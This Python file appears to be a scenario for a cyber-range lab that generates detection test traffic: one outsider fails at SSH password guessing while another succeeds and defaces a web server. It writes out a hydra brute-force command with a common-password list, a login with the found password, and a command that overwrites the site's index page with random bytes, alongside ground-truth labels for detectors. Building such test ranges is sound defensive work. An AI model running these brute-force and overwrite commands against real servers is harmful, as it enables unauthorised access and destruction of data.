"""A web server is taken over from the internet directly, while somebody else guesses passwords of it in vain.

    attacker ──ssh──▶ web (DMZ)
    visitor2 ──ssh──▶ web             guesses, and fails
"""

import time

from lab import attack

DESCRIPTION = ("An intruder guesses an SSH password of the web server and changes its pages. Another outsider guesses at the "
               "same time and does not find one.")
PACE = 2
TAPS = attack.taps("border", "dmz")

ATTACKER, OTHER, WEB = "198.51.100.66", "203.0.113.41", "10.20.0.10"
WORDS = "123456 password webadmin admin letmein qwerty Welcome1 Passw0rd! changeme Summer2026 Autumn2026".split()


def guess(lab, host, words):
    path = lab.dir / f"words-{host}"
    path.write_text("\n".join(words) + "\n")
    return lab.run(host, ["timeout", "40", "hydra", "-I", "-f", "-t", "4", "-l", "webadmin", "-P", str(path), "-o",
                          "/dev/null", f"ssh://{WEB}"]).stdout


def play(lab, people, truth):
    time.sleep(12)
    both = dict(destination=[WEB], protocol="ssh", ports=[22], taps=["border", "dmz"],
                techniques=[attack.enterprise("credential-access", "T1110.001")])
    with truth.stage("guess-in-vain", "Password guessing without success", source=[OTHER], **both, must_detect=False,
                     evidence=f"ip.src == {OTHER} && ip.dst == {WEB} && ssh.protocol", expect="failed logins"):
        guess(lab, "visitor2", WORDS)
    with truth.stage("guess", "Password guessing, with success", source=[ATTACKER], **both,
                     evidence=f"ip.src == {ATTACKER} && ip.dst == {WEB} && ssh.protocol",
                     expect="failed logins, then one that succeeds"):
        if "password: Winter2026!" not in guess(lab, "attacker", [*WORDS, "Winter2026!"]):
            raise RuntimeError("the password was not found")
    with truth.stage("takeover", "Login, and new pages on the site", source=[ATTACKER], destination=[WEB], protocol="ssh",
                     ports=[22], taps=["border", "dmz"], techniques=attack.LOGIN,
                     evidence=f"ip.src == {ATTACKER} && ip.dst == {WEB} && ssh",
                     expect="login from an address that has just guessed passwords", must_detect=False):
        session = attack.typing(lab, "attacker", [
            [2, "id; ls -la /run/tocsin-range/www/web"], [2, "head -c 20000 /dev/urandom > index.html"],
            [1, "uname -a; ps ax"], [1, "exit"]], attack.login(lab, "webadmin", "Winter2026!", WEB))
        attack.wait(session, 60)
    truth.hop(ATTACKER, WEB, 22, "ssh", "takeover", "border")
    time.sleep(5)


def write(folder):
    pass
